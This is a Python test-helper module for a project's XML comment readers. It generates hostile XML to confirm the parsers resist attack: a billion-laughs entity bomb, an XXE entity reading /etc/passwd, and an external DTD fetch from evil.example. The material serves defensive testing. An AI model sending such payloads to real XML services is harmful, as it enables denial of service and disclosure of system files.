"""What the XML readers' tests share: hostile documents, a Progress that records, and the peak
memory of reading a file."""

from __future__ import annotations

import tracemalloc
from collections.abc import Iterator
from pathlib import Path

from commentd.portability.records import Reader, SourceComment

FIXTURES = Path(__file__).resolve().parents[2] / "fixtures" / "import"


def billion_laughs(root: str) -> str:
    """The classic entity bomb: ten levels of ten, 10^9 "lol"s if expanded."""
    levels = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10)
    ]
    return (
        '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n'
        + "\n".join(levels)
        + f"\n]>\n{root.replace('><', '>&lol9;<', 1)}\n"
    )


def external_entity(root: str) -> str:
    """A document whose entity would read a local file (XXE)."""
    return (
        '<?xml version="1.0"?>\n<!DOCTYPE r [\n<!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n'
        + root.replace("><", ">&xxe;<", 1)
        + "\n"
    )


def external_parameter_entity(root: str) -> str:
    """A document whose DTD would fetch more DTD from the network."""
    return (
        '<?xml version="1.0"?>\n<!DOCTYPE r [\n'
        '<!ENTITY % remote SYSTEM "http://evil.example/x.dtd">\n%remote;\n]>\n' + root + "\n"
    )


class RecordingProgress:
    """A Progress that remembers what it was told."""

    def __init__(self) -> None:
        self.total: int | None = None
        self.unit = ""
        self.done = 0

    def start(self, total: int | None, unit: str) -> None:
        self.total, self.unit = total, unit

    def advance(self, amount: int) -> None:
        self.done += amount


def peak_memory_of_reading(reader: Reader, path: Path) -> tuple[int, int]:
    """(comments read, peak bytes Python allocated meanwhile) for reading `path` through."""
    tracemalloc.start()
    try:
        count = sum(1 for _ in reader(path, RecordingProgress()))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return count, peak


def first_comment_and_progress(
    reader: Reader, path: Path
) -> tuple[SourceComment, RecordingProgress]:
    """The first comment the reader yields, and how much of the file it had read by then."""
    progress = RecordingProgress()
    comments: Iterator[SourceComment] = reader(path, progress)
    try:
        return next(comments), progress
    finally:
        close = getattr(comments, "close", None)
        if close is not None:
            close()
